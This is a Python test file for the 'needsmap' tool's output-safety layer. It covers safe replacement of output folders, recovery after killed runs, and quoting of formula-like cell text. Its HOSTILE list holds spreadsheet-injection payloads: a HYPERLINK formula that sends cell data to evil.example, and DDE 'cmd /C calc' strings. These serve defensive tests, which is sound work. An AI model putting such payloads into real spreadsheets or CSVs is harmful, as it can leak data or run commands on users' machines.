"""The output-safety layer: a run replaces only what it wrote, and survives being killed.

The slow tests run the real ``needsmap`` command in a subprocess and kill it outright,
fill the disk (RLIMIT_FSIZE) or make the destination unwritable.
"""

from __future__ import annotations

import contextlib
import copy
import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from tests.guards import fake_output, snapshot, strays

from needsmap import integrity
from needsmap.config import RunConfig, bundled_data_dir
from needsmap.errors import InputError
from needsmap.integrity import (
    check_output_folder,
    recover_staging,
    safe_cell,
    safe_text,
    staged,
)
from needsmap.pipeline import run, step
from needsmap.workbook import HEADER_ROWS, write_workbook

WIRRAL = bundled_data_dir() / "wirral"


# ------------------------------------------------------------------- what may be replaced


def test_an_earlier_output_with_the_users_files_in_it_is_refused(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.csv": "a,b\n", "maps/need.png": "png"})
    (out / "my notes.docx").write_text("precious")
    (out / "maps" / "edited.png").write_text("mine")
    before = snapshot(out)
    with pytest.raises(
        InputError,
        match=r"out: holds what needsmap did not write \(maps/edited.png, my notes.docx\); "
        r"a run replaces its output folder whole, so move those out",
    ):
        check_output_folder(out)
    assert snapshot(out) == before


def test_an_output_changed_since_it_was_written_is_refused(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.csv": "a,b\n"})
    (out / "wards.csv").write_text("a,b\n1,2 (my edit)\n")
    with pytest.raises(InputError, match=r"wards.csv \(changed since needsmap wrote it\)"):
        check_output_folder(out)


def test_excels_lock_file_means_the_workbook_is_open(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.xlsx": "xlsx"})
    (out / "~$wards.xlsx").write_text("lock")
    with pytest.raises(InputError, match=r"\(~\$wards.xlsx\)"):
        check_output_folder(out)


def test_a_previous_run_is_replaced_whole(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.csv": "old", "maps/a.png": "old"})
    assert check_output_folder(out) == out.resolve()
    with staged(out) as tmp:
        (tmp / "wards.csv").write_text("new")
    assert snapshot(out) == {"wards.csv": b"new"}
    assert strays(tmp_path) == []


@pytest.fixture
def swallowed_interrupt():
    """Ctrl-C pressed and its KeyboardInterrupt swallowed, as a ``__del__`` or a
    library's bare ``except`` would."""
    with contextlib.suppress(KeyboardInterrupt):
        integrity.on_interrupt(signal.SIGINT, None)
    yield
    integrity.INTERRUPTED.clear()


def test_a_swallowed_interrupt_still_keeps_the_previous_outputs(tmp_path, swallowed_interrupt):
    out = fake_output(tmp_path / "out", {"wards.csv": "old"})
    with pytest.raises(KeyboardInterrupt), staged(out) as tmp:
        (tmp / "wards.csv").write_text("new")
    assert snapshot(out) == {"run.json": (out / "run.json").read_bytes(), "wards.csv": b"old"}
    assert strays(tmp_path) == []


def test_a_swallowed_interrupt_stops_the_run_at_its_next_step(swallowed_interrupt):
    ran = []
    with pytest.raises(KeyboardInterrupt), step("Need index"):
        ran.append("need index")
    assert ran == []


def test_a_caseload_kept_inside_the_output_folder_is_refused(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.csv": "old"})
    caseload = out / "caseload.csv"
    caseload.write_text("ward_code,children_in_need\n")
    cfg = RunConfig(caseload=caseload)
    with pytest.raises(InputError, match=r"out: holds an input of this run \(.*caseload.csv\)"):
        run(cfg, out=out)
    assert caseload.exists()


@pytest.mark.parametrize(
    ("out", "relation", "what"),
    [
        (WIRRAL, "is inside", "data"),
        (WIRRAL / "out", "is inside", "data"),
        (WIRRAL.parent / "new_area", "is inside", "data"),
    ],
)
def test_the_data_folder_is_refused(out, relation, what, monkeypatch):
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)
    with pytest.raises(InputError, match=rf"{relation} an input of this run \(.*{what}\)"):
        run(RunConfig(), out=out)
    assert not out.exists() or out == WIRRAL


def test_a_folder_holding_the_area_bundle_is_refused(tmp_path, monkeypatch):
    area = tmp_path / "bundles" / "rutland"
    area.mkdir(parents=True)
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)
    with pytest.raises(InputError, match=r"bundles: holds an input of this run \(.*rutland\)"):
        run(RunConfig(area=area), out=tmp_path / "bundles")


@pytest.mark.parametrize(
    ("out", "what"),
    [
        (".", "is the current folder"),
        ("..", "is a folder above the current folder"),
        ("/", "is a folder above the current folder"),
        ("~", "is your home folder"),
    ],
)
def test_the_current_root_and_home_folders_are_refused(out, what, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)  # stops before any work
    with pytest.raises(InputError, match=rf"^{out}: {what}; a run replaces its output folder"):
        run(RunConfig(), out=Path(out))


def test_a_symlinked_output_folder_is_followed_and_stays_a_link(tmp_path):
    real = fake_output(tmp_path / "shared" / "needsmap", {"wards.csv": "old"})
    link = tmp_path / "out"
    link.symlink_to(real, target_is_directory=True)
    with staged(link) as tmp:
        (tmp / "wards.csv").write_text("new")
    assert link.is_symlink()
    assert snapshot(real) == {"wards.csv": b"new"}
    assert strays(real.parent) == []


def test_a_link_inside_an_earlier_output_is_not_ours(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.csv": "old"})
    (out / "data").symlink_to(tmp_path, target_is_directory=True)
    with pytest.raises(InputError, match=r"\(data \(a link\)\)"):
        check_output_folder(out)


def test_an_unwritable_destination_stops_before_the_analysis(tmp_path, monkeypatch):
    """Root may write anywhere, so the refusal of the system call is simulated."""

    def refused(*args):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(integrity, "_new_folder", refused)
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)
    with pytest.raises(
        InputError,
        match=r"out: cannot write the outputs there \(Permission denied\); give --out a folder",
    ):
        run(RunConfig(), out=tmp_path / "out")


def test_a_destination_under_a_file_stops_before_the_analysis(tmp_path, monkeypatch):
    (tmp_path / "report.txt").write_text("mine")
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)
    with pytest.raises(InputError, match=r"cannot write the outputs there \(File exists\)"):
        run(RunConfig(), out=tmp_path / "report.txt" / "out")
    assert (tmp_path / "report.txt").read_text() == "mine"


# ------------------------------------------------------------- what a killed run leaves


def test_a_killed_runs_temporary_folder_is_removed_next_time(tmp_path):
    out = fake_output(tmp_path / "out", {"wards.csv": "last week"})
    stale = tmp_path / ".out.needsmap-staging-999999999-abcd1234"
    stale.mkdir()
    (stale / integrity.MARK).write_text("999999999\n")
    (stale / "wards.csv").write_text("half")
    notes = recover_staging(out)
    assert notes == [
        f"removed .out.needsmap-staging-999999999-abcd1234 from {tmp_path}, left by a run "
        "that was stopped"
    ]
    assert strays(tmp_path) == []
    assert snapshot(out)["wards.csv"] == b"last week"


def test_outputs_left_mid_swap_are_put_back(tmp_path):
    """Killed between the two renames: out/ is missing, the old run aside."""
    aside = tmp_path / ".out.needsmap-previous-999999999-abcd1234"
    fake_output(aside / "out", {"wards.csv": "last week"})
    notes = recover_staging(tmp_path / "out")
    assert notes == [
        f"put the previous outputs back in {tmp_path / 'out'} from {aside.name}, left by a "
        "run that was stopped while swapping folders"
    ]
    assert snapshot(tmp_path / "out")["wards.csv"] == b"last week"
    assert strays(tmp_path) == []


def test_folders_not_provably_ours_or_of_a_live_run_are_left_alone(tmp_path):
    mine = tmp_path / ".out.needsmap-staging-999999999-0000"  # no mark, no manifest
    mine.mkdir()
    (mine / "thesis.docx").write_text("precious")
    live = tmp_path / f".out.needsmap-staging-{os.getppid()}-1111"  # a process that runs
    live.mkdir()
    (live / integrity.MARK).write_text("")
    other = tmp_path / ".out.backup"
    other.mkdir()
    assert recover_staging(tmp_path / "out") == []
    assert strays(tmp_path) == sorted([mine.name, live.name, other.name])


def test_the_next_run_tidies_and_says_so(tmp_path, bundled_run, monkeypatch):
    stale = tmp_path / ".out.needsmap-staging-999999999-abcd1234"
    stale.mkdir()
    (stale / integrity.MARK).write_text("")
    monkeypatch.setattr("needsmap.pipeline.analyse", lambda cfg: copy.copy(bundled_run))
    monkeypatch.setattr("needsmap.pipeline.write_outputs", lambda results, folder: [])
    results = run(RunConfig(), out=tmp_path / "out")
    assert results.notes[0].startswith("removed .out.needsmap-staging-999999999-abcd1234")
    assert strays(tmp_path) == []


def _needsmap(out: Path, **kwargs) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "needsmap", "run", "--quiet", "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        **kwargs,
    )


def _processes_writing_to(out: Path) -> list[int]:
    """Processes whose command line names ``out``'s folder (the run, its forked workers
    and the Chromium printing the report)."""
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if str(out.parent).encode() in cmdline and int(entry.name) != os.getpid():
                pids.append(int(entry.name))
    return pids


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="kill -9 and /proc: Linux")
def test_kill_9_at_several_points_loses_nothing_and_leaves_nothing(tmp_path):
    """Killed while loading, analysing and drawing: workers die with the run, the old
    outputs are untouched, and the next run removes what was left, saying so."""
    out = fake_output(tmp_path / "out", {"wards.csv": "last week"})
    before = snapshot(out)
    for seconds in (1.5, 3.5, 6.0):
        proc = _needsmap(out)
        time.sleep(seconds)
        assert proc.poll() is None, f"the run finished within {seconds} s"
        proc.send_signal(signal.SIGKILL)
        proc.communicate()
        deadline = time.monotonic() + 5
        while _processes_writing_to(out) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _processes_writing_to(out) == [], seconds
        assert snapshot(out) == before, seconds
        left = strays(tmp_path)
        notes = recover_staging(out)
        assert len(notes) == len(left), (seconds, left, notes)
        assert all(n.startswith("removed .out.needsmap-staging-") for n in notes)
        assert strays(tmp_path) == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE: Linux")
def test_a_full_disk_is_one_line_naming_the_file_and_the_old_outputs_stay(tmp_path):
    """A 200 kB limit on file size: the first big output fails as on a full disk."""
    out = fake_output(tmp_path / "out", {"wards.csv": "last week"})
    before = snapshot(out)

    def small_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))

    proc = _needsmap(out, preexec_fn=small_disk)
    _, err = proc.communicate(timeout=600)
    assert proc.returncode == 2, err
    line = err.strip().splitlines()[-1]
    assert line.startswith(f"needsmap: error: {out}: could not finish the outputs (File too large")
    assert " writing " in line
    assert "the previous outputs are unchanged" in line
    assert snapshot(out) == before
    assert strays(tmp_path) == []


# --------------------------------------------------------------- text, never a formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_would_run_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "+44", "-0.5", "-50%", "+1,234.5", "Birkenhead Family Hub", 3, -2.5, None]
)
def test_plain_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_safe_text_leaves_the_callers_frame_and_numbers_alone():
    frame = pd.DataFrame({"name": ["=1+1", "Hub"], "capacity": [-1.0, 2.0]})
    out = safe_text(frame)
    assert out["name"].tolist() == ["'=1+1", "Hub"]
    assert out["capacity"].tolist() == [-1.0, 2.0]
    assert frame["name"].tolist() == ["=1+1", "Hub"]


def test_workbook_cells_are_text_never_formulas(tmp_path):
    hostile = HOSTILE[:-1]  # XML reads a carriage return as a newline
    table = pd.DataFrame({"name": hostile, "n": range(len(hostile))})
    path = write_workbook(tmp_path / "w.xlsx", {"Recommended sites": table})
    sheet = load_workbook(path)["Recommended sites"]
    # Rows 1 and 2 are the plain-words and column-name headers (workbook.HEADER_ROWS).
    first = HEADER_ROWS + 1
    cells = [sheet.cell(row=r, column=1) for r in range(first, len(hostile) + first)]
    assert [c.value for c in cells] == hostile
    assert {c.data_type for c in cells} == {"s"}
    assert b"<f>" not in _sheet_xml(path)


def _sheet_xml(path: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_hostile_service_name_is_text_in_every_output(bundled_run, tmp_path, monkeypatch):
    """A user's service named as a formula reaches the CSVs quoted and the workbook as text."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    services = tmp_path / "hubs.csv"
    quoted = name.replace('"', '""')
    services.write_text(
        f'name,type,postcode\n"{quoted}",family_hub,CH99 9ZZ\n"@SUM(1,2)",family_hub,CH41 0AA\n'
    )
    res = run(RunConfig(services=(services,)), out=tmp_path / "out")
    folder = res.written[0].parent
    unplaced = pd.read_csv(folder / "services_unplaced.csv")
    assert ("'" + name) in unplaced["name"].tolist()
    assert b"<f>" not in _sheet_xml(folder / "wards.xlsx")
    record = json.loads((folder / "run.json").read_text())
    assert "services_unplaced.csv" in record["sha256"]


# ------------------------------------------------------------------ the command, end to end


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["run", "--out", "."], r"^needsmap: error: \.: is the current folder; a run replaces"),
        (
            ["run", "--config", "{corpus}/config/billion_laughs.yml"],
            r"^needsmap: error: billion_laughs.yml: not valid YAML at line 2; aliases",
        ),
        (
            ["run", "--config", "{corpus}/config/seed_negative.yml"],
            r"^needsmap: error: seed_negative.yml: need_index.seed: must be from 0 to",
        ),
    ],
)
def test_cli_refusals_are_one_line_exit_2(args, message, tmp_path, monkeypatch, capsys):
    from needsmap.cli import main

    corpus = Path(__file__).parent / "corpus"
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)
    code = main([a.format(corpus=corpus) for a in args])
    err = capsys.readouterr().err
    assert code == 2
    assert len(err.strip().splitlines()) == 1, err
    assert re_search(message, err)
    assert list(tmp_path.iterdir()) == []


def re_search(pattern: str, text: str) -> bool:
    import re

    return re.search(pattern, text) is not None


def test_validate_reads_a_record_level_file_as_run_does():
    """Placed by postcode: validate used to reject what run accepted."""
    from needsmap.checks import validate_inputs

    path = Path(__file__).parent / "corpus" / "records" / "childid_header.csv"
    result = validate_inputs(RunConfig(caseload=path))
    assert result.ok, result.problems
    report = result.report()
    assert "childid_header.csv: " in report
    assert "12 Acacia Avenue" not in report
    assert "CH41 0AA" not in report


def test_an_output_from_before_the_manifest_is_ours_by_its_list_of_outputs(tmp_path):
    out = tmp_path / "out"
    (out / "maps").mkdir(parents=True)
    (out / "wards.csv").write_text("old")
    (out / "maps" / "need.png").write_text("old")
    (out / "run.json").write_text(json.dumps({"outputs": ["wards.csv", "maps/need.png"]}))
    assert check_output_folder(out) == out.resolve()
    (out / "mine.txt").write_text("precious")
    with pytest.raises(InputError, match=r"\(mine.txt\)"):
        check_output_folder(out)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into a read-only folder")
def test_a_read_only_parent_stops_before_the_analysis(tmp_path, monkeypatch):
    parent = tmp_path / "shared"
    parent.mkdir()
    parent.chmod(0o555)
    monkeypatch.setattr("needsmap.pipeline.analyse", pytest.fail)
    try:
        with pytest.raises(InputError, match=r"cannot write the outputs there \(Permission"):
            run(RunConfig(), out=parent / "out")
    finally:
        parent.chmod(0o755)
